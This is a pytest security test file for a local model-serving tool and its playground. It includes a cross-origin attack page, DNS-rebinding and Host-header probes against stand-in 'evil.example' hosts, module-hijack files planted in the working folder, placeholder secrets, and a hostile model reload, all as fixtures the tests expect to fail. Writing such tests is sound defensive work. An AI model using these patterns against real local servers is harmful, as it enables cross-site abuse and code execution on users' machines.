"""A stranger at the ports of ``inkwell serve`` as it starts by default.

The server is started by a user who stands in a folder that somebody else has filled.
"""

import dataclasses
import http.server
import json
import re
import shutil
import socket
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path

import grpc
import httpx
import psutil
import pytest
from tensorflow_serving.apis import model_management_pb2

from serving.model_server.grpc_client import GrpcClient
from serving.signing import KEY_VARIABLE
from tests.browser import needs_chromium, open_browser
from tests.serving.hostile import save_hostile
from tests.serving.test_serve import Running, serve
from tests.serving.toy_models import save_gan

GENERATE = '{"signature_name": "generate", "inputs": {"seed": 1, "count": 1}}'
PREDICT, METRICS = "/v1/models/gan:predict", "/monitoring/prometheus/metrics"
SECRETS = {
    **dict.fromkeys((KEY_VARIABLE, "INKWELL_KFP_TOKEN", "INKWELL_KFP_COOKIES"), "s3cret"),
    **dict.fromkeys(("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "HF_TOKEN"), "s3cret"),
    "GOOGLE_APPLICATION_CREDENTIALS": "/home/s3cret.json",
    "PIP_INDEX_URL": "https://ada:s3cret@127.0.0.1/simple",
    "HARMLESS": "kept",
}
STRANGE_HOSTS = [
    *("evil.example", "evil.example:8501", "127.0.0.1.evil.example", "localhost.evil.example"),
    *("127.0.0.1@evil.example", "evil", "[evil]", ""),
]
STRANGE_ORIGINS = [
    *("https://evil.example", "null", "http://127.0.0.1", "http://localhost:1", "file://", "x"),
    "https://127.0.0.1:{page}",  # the playground's own, if it were encrypted
    "http://localhost:{page}",  # its own by another name than the server is called by
]
# What a page can do without being let: the answer is hidden, but the work would be done.
PAGE = """<script>
async function all(server, path, metrics, body) {
  const url = server + path, seen = [];
  const attempt = async (options) => {
    try { seen.push((await (await fetch(url, options)).text()).slice(0, 40)); } catch {}
  };
  for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'application/json'])
    for (const mode of ['cors', 'no-cors'])
      await attempt({method: 'POST', mode, body, headers: {'Content-Type': type}});
  navigator.sendBeacon(url, new Blob([body], {type: 'text/plain'}));
  for (const other of ['/v1/models/gan', metrics])
    try { seen.push((await (await fetch(server + other)).text()).slice(0, 40)); } catch {}
  return seen.filter(Boolean);
}
</script>"""


@dataclasses.dataclass(frozen=True)
class Served:
    """``inkwell serve --playground`` in a hostile folder."""

    running: Running
    folder: Path
    page_port: int

    @property
    def rest(self) -> str:
        return f"127.0.0.1:{self.running.rest_port}"

    @property
    def page(self) -> str:
        return f"127.0.0.1:{self.page_port}"

    def predictions(self) -> int:
        """How many were asked for until now, whatever became of them."""
        lines = httpx.get(f"http://{self.rest}{METRICS}").text.splitlines()
        counts = [line for line in lines if line.startswith(":tensorflow:serving:request_count{")]
        return sum(int(float(line.rpartition(" ")[2])) for line in counts)


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    folder = tmp_path_factory.mktemp("hostile")
    for name in ("orjson", "aiohttp", "sitecustomize", "json"):
        (folder / f"{name}.py").write_text(f"open({str(folder / 'ran')!r}, 'w')\n", "utf-8")
    (folder / "serving").mkdir()
    (folder / "serving" / "__init__.py").write_text(f"open({str(folder / 'ran')!r}, 'w')\n")
    save_gan(folder / "models" / "gan" / "1")
    options = ("--serving", "models", "--playground", "--playground-port", "0")
    with serve(*options, cwd=folder, env=SECRETS) as running:
        found = re.search(r"Playground http://127\.0\.0\.1:(\d+)", running.said)
        assert found, (running.said, running.process.stderr.read())
        yield Served(running, folder, int(found[1]))


@pytest.fixture(scope="module")
def evil(tmp_path_factory: pytest.TempPathFactory) -> Iterator[int]:
    """The port of a web server of a stranger, with the page above."""
    site = tmp_path_factory.mktemp("evil")
    (site / "index.html").write_text(PAGE, "utf-8")

    class Quiet(http.server.SimpleHTTPRequestHandler):
        def __init__(self, *arguments):
            super().__init__(*arguments, directory=str(site))

        def log_message(self, *_):
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Quiet) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server.server_port
        server.shutdown()


@pytest.fixture(scope="module")
def context(tmp_path_factory: pytest.TempPathFactory):
    """A browser in which every name of example leads here, as a stranger's DNS can have it."""
    flags = ["--host-resolver-rules=MAP *.example 127.0.0.1"]
    with open_browser(tmp_path_factory.mktemp("profile"), flags) as context:
        yield context


@needs_chromium
def test_a_page_of_another_site_neither_reads_nor_starts_predictions(served, evil, context):
    """Row 3: a POST as text/plain got images, and kept a core busy without reading any."""
    before = served.predictions()
    arguments = [f"http://{served.rest}", PREDICT, METRICS, GENERATE]
    page = context.new_page()
    for host in ("evil.example", "127.0.0.1", "localhost"):
        page.goto(f"http://{host}:{evil}/")
        assert page.evaluate("args => all(...args)", arguments) == []
    page.close()
    assert served.predictions() == before


@needs_chromium
def test_a_page_whose_name_leads_here_reads_nothing(served, context):
    """Row 3: DNS rebinding makes the server one's own origin; models and metrics were readable."""
    before = served.predictions()
    page = context.new_page()
    for port, path in ((served.rest, "/v1/models/gan"), (served.rest, METRICS), (served.page, "/")):
        answer = page.goto(f"http://rebind.example:{port.rpartition(':')[2]}{path}")
        assert answer.status == 403
        # The refusal's own policy already keeps a page from calling anything.
        assert page.evaluate(f"fetch('{PREDICT}').then(a => a.status, e => 0)") in (0, 403)
    page.close()
    assert served.predictions() == before


@needs_chromium
def test_the_playground_calls_its_own_server_alone(served, evil, context):
    """Row 18: ?server= sent every digit that was drawn to a server of a stranger's choice."""
    page, hosts = context.new_page(), set()
    page.on("request", lambda request: hosts.add(request.url.split("/")[2]))
    page.goto(f"http://{served.page}/?server=http://evil.example:{evil}")
    page.wait_for_selector("body[data-ready]")
    assert hosts == {served.page, served.rest}
    url = f"http://evil.example:{evil}/"
    sent = "url => fetch(url, {mode: 'no-cors'}).then(() => 'sent', e => e.message)"
    assert page.evaluate(sent, url) != "sent"
    page.close()


@pytest.mark.parametrize("host", STRANGE_HOSTS)
def test_a_request_by_a_name_that_is_not_the_servers_is_refused(served, host):
    for address, path in ((served.rest, METRICS), (served.rest, PREDICT), (served.page, "/")):
        target, port = address.split(":")
        with socket.create_connection((target, int(port)), timeout=20) as client:
            client.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
            assert client.recv(100).split()[1] in (b"403", b"400")
    before, url = served.predictions(), f"http://{served.rest}{PREDICT}"
    headers = {"Host": host, "Origin": f"http://{host}", "Content-Type": "application/json"}
    assert httpx.post(url, content=GENERATE, headers=headers).status_code in (403, 400)
    assert served.predictions() == before


def test_addresses_and_localhost_are_names_of_every_server(served):
    for host in (served.rest, "localhost", "LOCALHOST:1", "[::1]:8501", "192.0.2.7", "localhost."):
        answer = httpx.get(f"http://{served.rest}/v1/models/gan", headers={"Host": host})
        assert answer.status_code == 200, host


@pytest.mark.parametrize("origin", STRANGE_ORIGINS)
def test_a_form_of_another_site_is_refused_and_no_origin_but_the_playgrounds_is_let(served, origin):
    origin = origin.format(page=served.page_port)
    before = served.predictions()
    for kind in ("text/plain", "multipart/form-data", "application/json2", ""):
        headers = {"Origin": origin, "Content-Type": kind}
        answer = httpx.post(f"http://{served.rest}{PREDICT}", content=GENERATE, headers=headers)
        assert answer.status_code == 415, kind
        assert "access-control-allow-origin" not in answer.headers
    assert served.predictions() == before
    answer = httpx.options(f"http://{served.rest}{PREDICT}", headers={"Origin": origin})
    assert "access-control-allow-origin" not in answer.headers


def test_the_playgrounds_own_pages_are_let_and_programs_go_on(served):
    url, origin = f"http://{served.rest}{PREDICT}", f"http://{served.page}"
    headers = {"Origin": origin, "Content-Type": "text/plain"}
    answer = httpx.post(url, content=GENERATE, headers=headers)
    assert answer.status_code == 200
    assert answer.headers["access-control-allow-origin"] == origin
    for headers in ({}, {"Content-Type": "application/x-www-form-urlencoded"}):  # as curl -d sends
        assert httpx.post(url, content=GENERATE, headers=headers).status_code == 200


@pytest.mark.parametrize("path", ["/v1/models/gan", METRICS, "/none", "/v1/models/none"])
def test_no_answer_is_a_page_or_a_script_to_a_browser(served, path):
    """Row 18: an answer could be sniffed as HTML, and shown in a frame."""
    headers = httpx.get(f"http://{served.rest}{path}").headers
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["content-security-policy"].startswith("default-src 'none'")
    page = httpx.get(f"http://{served.page}{path}").headers
    assert page["x-content-type-options"] == "nosniff"
    assert "frame-ancestors 'none'" in page["content-security-policy"]


def test_a_stranger_cannot_make_the_server_run_a_program(served, tmp_path):
    """Row 1: one reload call loaded a SavedModel whose warm-up wrote a file of the victim."""
    trace, base = tmp_path / "trace", tmp_path / "hostile"
    save_hostile(base, trace, "gan")
    request = model_management_pb2.ReloadConfigRequest()
    request.config.model_config_list.config.add(
        name="gan", base_path=str(base), model_platform="tensorflow"
    )
    with GrpcClient(f"127.0.0.1:{served.running.grpc_port}", "gan") as client:
        with pytest.raises(grpc.RpcError) as caught:
            client.models.HandleReloadConfigRequest(request, timeout=30)
        assert caught.value.code() == grpc.StatusCode.PERMISSION_DENIED
        assert client.states(30) == {1: "AVAILABLE"}
    assert not trace.exists()


def test_nothing_of_the_folder_one_stands_in_ran(served):
    """Row 4: ``inkwell serve`` ran an orjson.py of a stranger with the rights of the user."""
    assert not (served.folder / "ran").exists()
    [child] = psutil.Process(served.running.process.pid).children()
    assert Path(child.cwd()) != served.folder and "-P" in child.cmdline()


def test_the_process_that_loads_models_holds_no_secret(served):
    """A model is a program, and could read the environment of its process."""
    [child] = psutil.Process(served.running.process.pid).children()
    found = Path(f"/proc/{child.pid}/environ").read_bytes().decode()
    assert "CUDA_VISIBLE_DEVICES=-1\0" in found and "HARMLESS=kept\0" in found
    assert "s3cret" not in found


def test_it_listens_on_loopback_alone_and_says_so(served):
    """Row 2: the screen named 127.0.0.1 while another server listened on every address."""
    processes = [psutil.Process(served.running.process.pid)]
    processes += processes[0].children()
    listening = {
        (connection.laddr.ip.removeprefix("::ffff:"), connection.laddr.port)
        for process in processes
        for connection in process.net_connections("tcp")
        if connection.status == psutil.CONN_LISTEN
    }
    running = served.running
    assert listening == {
        ("127.0.0.1", port) for port in (running.grpc_port, running.rest_port, served.page_port)
    }
    assert f"gRPC 127.0.0.1:{running.grpc_port}, REST http://127.0.0.1:" in running.said
    assert "login" not in running.said


@pytest.mark.skipif(shutil.which("curl") is None, reason="curl is not installed")
def test_curl_as_the_guide_calls_it_still_works(served):
    done = subprocess.run(
        ["curl", "-s", f"localhost:{served.running.rest_port}{PREDICT}", "-d", GENERATE],
        capture_output=True,
        text=True,
    )
    assert len(json.loads(done.stdout)["outputs"]) == 1
